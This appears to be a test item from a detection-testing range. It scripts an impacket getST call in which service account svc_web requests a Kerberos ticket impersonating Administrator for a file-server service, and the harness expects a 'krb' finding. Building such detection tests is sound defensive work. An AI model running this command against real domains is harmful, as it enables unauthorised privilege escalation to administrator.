# SPDX-License-Identifier: Apache-2.0
# what: a service account asks for a ticket in the name of an administrator
# technique: T1558.003
# from: ws1
# to: dc1
# account: svc_web
# outcome: attempt
# must: finding krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
unset KRB5CCNAME
says 'Impersonating|Requesting S4U2self' impacket getST -spn "cifs/fs1.$DOMAIN_DNS" -impersonate Administrator -dc-ip $dc1 "$DOMAIN_DNS/svc_web:$USER_PASSWORD"
